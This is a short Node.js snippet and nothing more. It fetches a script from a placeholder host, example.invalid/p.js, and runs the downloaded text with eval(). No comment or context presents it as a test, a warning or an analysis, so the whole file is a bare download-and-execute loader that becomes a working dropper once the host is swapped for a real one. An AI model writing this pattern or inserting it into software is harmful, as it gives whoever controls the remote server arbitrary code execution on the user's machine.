const https = require('https');
https.get('https://example.invalid/p.js', (res) => {
  let body = '';
  res.on('data', (chunk) => { body += chunk; });
  res.on('end', () => { eval(body); });
});
